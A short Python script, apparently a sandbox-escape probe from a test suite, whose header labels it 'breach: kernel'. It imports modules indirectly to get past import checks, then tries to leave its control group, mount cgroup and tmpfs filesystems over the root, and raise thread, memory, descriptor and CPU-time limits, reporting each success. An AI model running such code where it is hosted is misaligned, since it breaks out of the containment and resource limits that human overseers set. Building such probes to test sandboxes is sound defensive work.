# Leaves its control group, makes one of its own, and raises limits: by files, by mounts and by system calls.
# breach: kernel
import typing

ctypes = typing.sys.modules.get("ctypes") or __import__("ctypes")
os = typing.sys.modules["os"]
libc = ctypes.CDLL(None, use_errno=True)
for base in ("/sys/fs/cgroup", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/unified"):
    for place in (f"{base}/cgroup.procs", f"{base}/tasks"):
        try:
            descriptor = os.open(place, os.O_WRONLY)
            print("GOT", place, os.write(descriptor, b"0"))
        except OSError as error:
            print(error)
for kind in (b"cgroup", b"cgroup2", b"tmpfs"):
    if libc.mount(b"none", b"/", kind, 0, None) == 0:
        print("GOT a mount of", kind)
for number, limit in ((6, 100_000), (9, 1 << 40), (7, 4096), (0, 1 << 20)):  # threads, memory, descriptors, seconds
    most = (ctypes.c_ulong * 2)(limit, limit)
    if libc.setrlimit(number, most) == 0:
        print("GOT limit", number)
